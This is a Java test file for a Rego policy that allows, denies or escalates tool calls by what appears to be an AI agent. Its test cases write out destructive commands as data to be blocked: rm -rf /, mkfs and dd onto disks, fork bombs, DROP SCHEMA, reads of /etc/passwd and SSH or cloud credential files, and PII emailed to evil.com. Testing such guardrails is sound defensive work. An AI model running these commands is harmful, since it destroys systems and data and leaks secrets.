package dev.aegis.pipeline.policy.platform;

import static dev.aegis.pipeline.policy.platform.PlatformHarness.action;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.aegis.pipeline.policy.platform.PlatformHarness.Decision;
import dev.aegis.pipeline.policy.platform.PlatformHarness.Hit;
import dev.aegis.pipeline.ports.PolicyInput;
import dev.aegis.pipeline.rego.Value;
import dev.aegis.pipeline.rego.Values;
import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Each platform rule's deny (or escalate) side and allow side, on the Rego bundle. */
class PlatformRulesTest {

  private static final Set<String> ALLOWED = Set.of("acme.com");
  private static PlatformHarness rego;

  @BeforeAll
  static void compile() {
    rego = new PlatformHarness();
  }

  private static Decision eval(String tool, String risk, String payloadJson) {
    return rego.eval(action(tool, risk, new JsonObject(payloadJson)), ALLOWED);
  }

  private static void assertClean(Decision d) {
    assertThat(d.allow()).isTrue();
    assertThat(d.deny()).isEmpty();
    assertThat(d.escalate()).isFalse();
    assertThat(d.escalations()).isEmpty();
    assertThat(d.hardDeny()).isFalse();
    assertThat(d.ruleId()).isNull();
    assertThat(d.reason()).isNull();
    assertThat(d.riskAdjustment()).isZero();
  }

  /**
   * rule id, signal, severity, effect, risk adjustment; then the firing action (tool, agent
   * risk, payload) and a near miss that must stay clean.
   */
  static Stream<Arguments> rules() {
    return Stream.of(
        arguments("hard_deny.shell.rm_root", "destructive_shell_command", "critical", "deny", 0.30,
            "shell.exec", "low", "{\"command\":\"sudo rm -rf /\"}",
            "shell.exec", "low", "{\"command\":\"rm -rf ./build\"}"),
        arguments("hard_deny.shell.no_preserve_root", "destructive_shell_command", "critical",
            "deny", 0.30,
            "shell.exec", "low", "{\"command\":\"rm -r --no-preserve-root ./x\"}",
            "shell.exec", "low", "{\"command\":\"rm -r --preserve-root ./x\"}"),
        arguments("hard_deny.shell.mkfs", "destructive_shell_command", "critical", "deny", 0.30,
            "shell.exec", "low", "{\"command\":\"mkfs -t ext4 /dev/sda\"}",
            "shell.exec", "low", "{\"command\":\"what does mkfs do?\"}"),
        arguments("hard_deny.shell.dd_device", "destructive_shell_command", "critical", "deny",
            0.30,
            "shell.exec", "low", "{\"command\":\"dd if=/dev/zero of=/dev/sda bs=1M\"}",
            "shell.exec", "low", "{\"command\":\"dd if=/dev/zero of=/dev/null bs=1M\"}"),
        arguments("hard_deny.shell.fork_bomb", "destructive_shell_command", "critical", "deny",
            0.30,
            "shell.exec", "low", "{\"command\":\"bomb() { bomb | bomb & }; bomb\"}",
            "shell.exec", "low", "{\"command\":\"bomb() { echo | cat & }; bomb\"}"),
        arguments("hard_deny.shell.chmod_root", "destructive_shell_command", "critical", "deny",
            0.30,
            "shell.exec", "low", "{\"command\":\"chmod -R 777 /\"}",
            "shell.exec", "low", "{\"command\":\"chmod -R 777 /srv/www/uploads\"}"),
        arguments("hard_deny.shell.device_overwrite", "destructive_shell_command", "critical",
            "deny", 0.30,
            "shell.exec", "low", "{\"command\":\"shred -n 3 /dev/nvme0n1\"}",
            "shell.exec", "low", "{\"command\":\"echo hi > /dev/null\"}"),
        arguments("hard_deny.sql.drop", "destructive_sql_ddl", "critical", "deny", 0.30,
            "db.query", "low", "{\"query\":\"DROP SCHEMA public CASCADE\"}",
            "db.query", "low", "{\"query\":\"we dropped the table tennis club\"}"),
        arguments("hard_deny.sql.truncate", "destructive_sql_ddl", "critical", "deny", 0.30,
            "db.query", "low", "{\"query\":\"TRUNCATE users\"}",
            "text.summarize", "low", "{\"prompt\":\"truncate the text to 50 chars\"}"),
        arguments("hard_deny.sql.delete_no_where", "destructive_sql_dml_no_predicate", "critical",
            "deny", 0.30,
            "db.query", "low", "{\"query\":\"delete from users; select 1\"}",
            "db.query", "low", "{\"query\":\"DELETE FROM t WHERE id = 5\"}"),
        arguments("hard_deny.sql.update_no_where", "destructive_sql_dml_no_predicate", "critical",
            "deny", 0.30,
            "db.query", "low", "{\"query\":\"UPDATE accounts SET balance = 0\"}",
            "text.summarize", "low", "{\"prompt\":\"update the docs and set the date\"}"),
        arguments("hard_deny.sql.tautology_predicate", "destructive_sql_dml_no_predicate",
            "critical", "deny", 0.30,
            "db.query", "low", "{\"query\":\"DELETE FROM t WHERE id = 1 OR 1=1\"}",
            "db.query", "low", "{\"query\":\"DELETE FROM t WHERE 1=1 AND id = 5\"}"),
        arguments("hard_deny.path.system_file", "system_sensitive_path", "critical", "deny", 0.30,
            "fs.read", "low", "{\"path\":\"cat /etc/passwd\"}",
            "fs.read", "low", "{\"path\":\"/etc/hosts\"}"),
        arguments("hard_deny.path.ssh_credentials", "ssh_credential_path", "critical", "deny",
            0.30,
            "fs.read", "low", "{\"path\":\"/root/.ssh/authorized_keys\"}",
            "fs.read", "low", "{\"path\":\"ssh into the box\"}"),
        arguments("hard_deny.path.cloud_credentials", "cloud_credential_path", "critical", "deny",
            0.30,
            "fs.read", "low", "{\"path\":\"/home/x/.config/gcloud/credentials.db\"}",
            "fs.read", "low", "{\"path\":\"aws s3 ls\"}"),
        arguments("hard_deny.k8s.delete_prod", "k8s_destruction_prod", "critical", "deny", 0.30,
            "shell.exec", "low", "{\"command\":\"kubectl -n customer-data delete pod x\"}",
            "shell.exec", "low", "{\"command\":\"kubectl get pods -n prod\"}"),
        arguments("escalate.k8s.delete", "k8s_destruction", "high", "escalate", 0.15,
            "shell.exec", "low", "{\"command\":\"kubectl delete deployment web -n dev\"}",
            "shell.exec", "low", "{\"command\":\"kubectl describe deployment web -n dev\"}"),
        arguments("hard_deny.k8s.helm_uninstall_prod", "k8s_destruction_prod", "critical", "deny",
            0.30,
            "shell.exec", "low", "{\"command\":\"helm uninstall api --namespace staging\"}",
            "shell.exec", "low", "{\"command\":\"helm install api -n production\"}"),
        arguments("escalate.k8s.helm_uninstall", "k8s_destruction", "high", "escalate", 0.15,
            "shell.exec", "low", "{\"command\":\"helm uninstall api -n sandbox\"}",
            "shell.exec", "low", "{\"command\":\"helm status api -n sandbox\"}"),
        arguments("hard_deny.iac.destroy_prod", "iac_destruction_prod", "critical", "deny", 0.30,
            "shell.exec", "low", "{\"command\":\"terraform apply -destroy -var-file=prod.tfvars\"}",
            "shell.exec", "low", "{\"command\":\"terraform plan -var-file=prod.tfvars\"}"),
        arguments("escalate.iac.destroy", "iac_destruction", "high", "escalate", 0.15,
            "shell.exec", "low", "{\"command\":\"terraform destroy -auto-approve\"}",
            "shell.exec", "low", "{\"command\":\"terraform plan -out=tfplan\"}"),
        arguments("hard_deny.pii.bulk_dump", "bulk_pii_egress_dump", "critical", "deny", 0.30,
            "db.query", "low", "{\"query\":\"SELECT email, phone FROM customers\"}",
            "db.query", "low", "{\"query\":\"SELECT email FROM users WHERE id = 7\"}"),
        arguments("escalate.pii.bulk_export", "bulk_pii_egress_above_threshold", "medium",
            "escalate", 0.15,
            "db.query", "high", "{\"query\":\"SELECT email, ssn FROM users LIMIT 500\"}",
            "db.query", "high", "{\"query\":\"SELECT email, ssn FROM users LIMIT 100\"}"),
        arguments("hard_deny.exfil.external_pii", "external_pii_exfil", "critical", "deny", 0.30,
            "email.send", "low", "{\"to\":\"x@evil.com\",\"body\":\"ssn 123-45-6789\"}",
            "email.send", "low", "{\"to\":\"ops@acme.com\",\"body\":\"ssn 123-45-6789\"}"),
        arguments("escalate.exfil.unknown_destination", "external_post_pii_unknown_dest", "high",
            "escalate", 0.15,
            "http.post", "low", "{\"body\":\"card 4111 1111 1111 1111\"}",
            "http.post", "low", "{\"body\":\"card 4111 1111 1111 1112\"}"),
        arguments("hard_deny.money.above_hard_cap", "money_transfer_above_hard_cap", "critical",
            "deny", 0.30,
            "payment.create", "low", "{\"amount\":\"12,500,000.00\"}",
            "wire.transfer", "low", "{\"amount\":199999.99}"),
        arguments("escalate.money.large_transfer", "money_transfer_external", "high", "escalate",
            0.15,
            "payout.send", "low", "{\"amount\":\"$250,000\"}",
            "invoice.read", "low", "{\"amount\":250000}"),
        arguments("agent.critical_dangerous_tool", "critical_agent_dangerous_tool", "high",
            "deny", 0.85,
            "fs.rm", "critical", "{\"arg\":\"ls\"}",
            "form.submit", "critical", "{\"arg\":\"ls\"}"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("rules")
  void should_fire_rule_with_its_id_severity_and_effect(String id, String signal,
      String severity, String effect, double adjustment, String tool, String risk,
      String payload, String missTool, String missRisk, String missPayload) {
    Decision d = eval(tool, risk, payload);

    Hit expected = null;
    List<Hit> list = effect.equals("deny") ? d.deny() : d.escalations();
    for (Hit h : list) {
      if (h.id().equals(id)) {
        expected = h;
      }
    }
    assertThat(expected).as("hit %s in %s", id, d.raw()).isNotNull();
    assertThat(expected.signal()).isEqualTo(signal);
    assertThat(expected.severity()).isEqualTo(severity);
    assertThat(expected.reason()).isNotBlank();
    assertThat(d.ruleIds()).as("only the rule under test fires").containsExactly(id);
    assertThat(d.ruleId()).isEqualTo(id);
    assertThat(d.reason()).isEqualTo(expected.reason());
    assertThat(d.allow()).isEqualTo(!effect.equals("deny"));
    assertThat(d.escalate()).isEqualTo(effect.equals("escalate"));
    assertThat(d.hardDeny()).isEqualTo(id.startsWith("hard_deny."));
    assertThat(d.riskAdjustment()).isEqualTo(adjustment);
  }

  @ParameterizedTest(name = "{0} near miss")
  @MethodSource("rules")
  void should_allow_near_miss(String id, String signal, String severity, String effect,
      double adjustment, String tool, String risk, String payload, String missTool,
      String missRisk, String missPayload) {
    assertClean(eval(missTool, missRisk, missPayload));
  }

  @ParameterizedTest
  @ValueSource(strings = {"rm -rf /", "rm -rf /*", "sudo rm -fr /", "rm -r -f /",
      "rm -Rf --no-preserve-root /", "rm -rf ~", "rm -rf /etc", "rm -rf \"$HOME\""})
  void should_deny_rm_on_root_spellings(String command) {
    Decision d = eval("shell.exec", "low", new JsonObject().put("command", command).encode());

    assertThat(d.denyIds()).containsExactly("hard_deny.shell.rm_root");
  }

  @Test
  void should_deny_classic_fork_bomb() {
    assertThat(eval("shell.exec", "low", "{\"command\":\":(){ :|:& };:\"}").ruleId())
        .isEqualTo("hard_deny.shell.fork_bomb");
  }

  @Test
  void should_report_tautology_once_for_delete_and_update() {
    Decision d = eval("db.query", "low",
        "{\"query\":\"DELETE FROM a WHERE 1=1; UPDATE b SET x = 1 WHERE true\"}");

    assertThat(d.denyIds()).containsExactly("hard_deny.sql.tautology_predicate");
  }

  @Test
  void should_report_most_severe_hit_whatever_the_order() {
    Decision d = eval("wire.transfer", "low",
        "{\"amount\":20000000,\"note\":\"kubectl delete deployment web -n dev\"}");

    assertThat(d.escalationIds()).containsExactly("escalate.k8s.delete");
    assertThat(d.denyIds()).containsExactly("hard_deny.money.above_hard_cap");
    assertThat(d.ruleId()).isEqualTo("hard_deny.money.above_hard_cap");
    assertThat(d.allow()).isFalse();
    assertThat(d.escalate()).isTrue();
    assertThat(d.hardDeny()).isTrue();
    assertThat(d.riskAdjustment()).isEqualTo(0.30);
  }

  @Test
  void should_prefer_hard_deny_over_critical_agent_rule_but_keep_its_adjustment() {
    Decision d = eval("shell.exec", "critical", "{\"command\":\"rm -rf /\"}");

    assertThat(d.denyIds())
        .containsExactly("hard_deny.shell.rm_root", "agent.critical_dangerous_tool");
    assertThat(d.ruleId()).isEqualTo("hard_deny.shell.rm_root");
    assertThat(d.riskAdjustment()).isEqualTo(0.85);
  }

  @Test
  void should_treat_absent_allow_list_as_no_domain_allowed() {
    PolicyInput in = action("email.send", "low",
        new JsonObject().put("to", "ops@acme.com").put("body", "ssn 123-45-6789"));

    assertThat(rego.eval(in, null).ruleId()).isEqualTo("hard_deny.exfil.external_pii");
    assertThat(rego.eval(in, List.of()).ruleId()).isEqualTo("hard_deny.exfil.external_pii");
    assertClean(rego.eval(in, List.of("ACME.com")));
    assertClean(rego.eval(action("http.post", "low", new JsonObject()
        .put("url", "https://api.eu.acme.com/x").put("body", "4111111111111111")), ALLOWED));
  }

  @Test
  void should_use_stage3_pii_findings() {
    PolicyInput in = action("email.send", "low",
        new JsonObject().put("to", "x@evil.com").put("body", "see attachment"),
        List.of("pii_ssn"));

    assertThat(rego.eval(in, ALLOWED).ruleId()).isEqualTo("hard_deny.exfil.external_pii");
    assertClean(rego.eval(action("email.send", "low",
        new JsonObject().put("to", "x@evil.com").put("body", "see attachment")), ALLOWED));
  }

  @Test
  void should_not_count_destination_addresses_as_pii() {
    assertClean(eval("email.send", "low",
        "{\"to\":\"bob@evil.com\",\"cc\":[\"ann@evil.com\"],\"body\":\"please drop me an email\"}"));
  }

  @Test
  void should_apply_row_thresholds_by_agent_risk() {
    String payload = "{\"query\":\"SELECT email, phone FROM customers\",\"limit\":%d}";

    assertThat(eval("crm.export", "critical", String.format(payload, 1)).ruleId())
        .isEqualTo("escalate.pii.bulk_export");
    assertClean(eval("crm.export", "critical", String.format(payload, 0)));
    assertClean(eval("crm.export", "medium", String.format(payload, 1000)));
    assertThat(eval("crm.export", null, String.format(payload, 1001)).ruleId())
        .isEqualTo("escalate.pii.bulk_export");
    assertClean(eval("crm.export", "low", String.format(payload, 9999)));
    assertThat(eval("crm.export", "low", String.format(payload, 10000)).ruleId())
        .isEqualTo("hard_deny.pii.bulk_dump");
  }

  @Test
  void should_define_a_clean_decision_for_an_empty_input() {
    Decision d = rego.eval(Value.EMPTY_OBJECT, null);

    assertClean(d);
    assertThat(d.raw().keySet()).containsExactlyInAnyOrder("allow", "deny", "escalate", "escalations", "hard_deny",
        "rule_id", "reason", "risk_adjustment");
  }

  @Test
  void should_define_the_decision_for_ill_typed_fields() {
    Value odd = Values.parseJson("{\"tool\": 42, \"agent\": null, \"payload\": \"x\","
        + " \"findings\": {}, \"text\": null}");
    Value oddPayload = Values.parseJson("{\"tool\": \"wire.transfer\", \"agent\":"
        + " {\"risk_level\": 3}, \"payload\": {\"amount\": [1], \"namespace\": 7, \"to\": 5},"
        + " \"text\": \"amount 1\"}");

    assertClean(rego.eval(odd, ALLOWED));
    assertClean(rego.eval(oddPayload, ALLOWED));
  }
}
